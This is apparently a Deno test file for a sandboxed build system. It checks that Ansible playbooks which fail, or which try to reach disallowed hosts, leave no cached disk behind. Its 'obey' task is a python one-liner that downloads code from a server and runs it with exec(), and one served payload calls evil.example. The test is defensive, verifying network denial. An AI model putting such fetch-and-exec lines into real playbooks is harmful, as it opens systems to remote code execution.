/**
 * Playbooks in the Debian worker, with the real Ansible: one that fails, or
 * tries what it may not, leaves nothing behind; a good one is run once.
 *
 * @module
 */

import assert from "node:assert/strict";
import { sourceFiles } from "../subplot/repository.ts";
import { FakeInternet } from "./harness/fake_internet.ts";
import { pageOf } from "./harness/services.ts";
import { logOf, Project, type ShownEvent } from "./project.ts";
import {
  assertDenied,
  assertSuccess,
  build,
  phaseOutcome,
} from "./red_team/attack.ts";

function specWith(...tasks: unknown[]): string {
  return JSON.stringify({
    "worker-image": "worker.img",
    "source": "src",
    "workspace": "ws",
    "resources": { memory: "1 GiB" },
    "network": {
      prepare: [{ host: "allowed.example", protocols: ["http"] }],
      build: [],
    },
    "ansible": [{
      hosts: "worker",
      remote_user: "worker",
      become: true,
      gather_facts: false,
      tasks,
    }],
    "build": "cat /etc/prepared input; id -un\n",
  });
}

/**
 * Does what a server tells it, so one playbook can be hostile and harmless: what
 * an attack left would be found by the next build.
 */
const obey = `python3 -c '
import urllib.request as request
exec(request.urlopen("http://allowed.example/").read())
'`;

async function preparedDisks(project: Project): Promise<number> {
  const { stdout } = await project.run(["manager", "status", "--json"]);
  return JSON.parse(stdout).caches.prepared.count;
}

function prepareOutcome(events: ShownEvent[]): string | undefined {
  const end = events.find((event) =>
    event.type === "phase-end" && event.phase === "prepare"
  );
  return end?.type === "phase-end" ? end.outcome : undefined;
}

Deno.test("a playbook that fails or attacks is not kept, a good one is", async (t) => {
  await using internet = new FakeInternet();
  await using project = await Project.create();
  await Deno.symlink(
    sourceFiles.get("worker.img")!,
    project.path("worker.img"),
  );
  await project.write("src/input", "first\n");
  assert.equal((await project.run(["manager", "start"])).code, 0);
  const before = await preparedDisks(project);

  await t.step("it fails", async () => {
    const task = { fail: { msg: "out of luck today" } };
    await project.write("build.yaml", specWith(task));
    const failed = await project.build();
    assert.equal(failed.code, 1, JSON.stringify(failed.events.at(-1)));
    assert.equal(prepareOutcome(failed.events), "failed");
    assert.match(logOf(failed.events), /out of luck today/);
    assert.equal(await preparedDisks(project), before);
  });

  // The content differs at each run of the test, so that nothing is prepared.
  const content = `prepared ${crypto.randomUUID()}\n`;
  const spec = specWith(
    { shell: obey, ignore_errors: true },
    { copy: { dest: "/etc/prepared", content } },
  );
  const buildObeying = (code: string) => {
    internet.serve("192.0.2.10:80", pageOf(code));
    return build(project, internet, spec);
  };

  await t.step("it makes an attempt, hidden from Ansible", async () => {
    const result = await buildObeying(
      'request.urlopen("http://evil.example/")',
    );
    assertDenied(result, {
      refusal: "name-not-allowed",
      host: "evil.example",
      phase: "prepare",
    });
    assert.equal(phaseOutcome(result, "prepare"), "failed");
    assert.equal(internet.trap.connections.length, 0);
    assert.equal(await preparedDisks(project), before);
  });

  await t.step("it succeeds, without the attempt", async () => {
    const result = await buildObeying("pass");
    assertSuccess(result);
    assert.equal(phaseOutcome(result, "prepare"), "done");
    assert.match(result.log, new RegExp(`${content}first\nworker\n`));
  });

  await t.step("it is reused", async () => {
    await project.write("src/input", "second\n");
    const result = await buildObeying("pass");
    assertSuccess(result);
    assert.equal(phaseOutcome(result, "prepare"), "reused");
    assert.match(result.log, new RegExp(`${content}second\nworker\n`));
  });
});
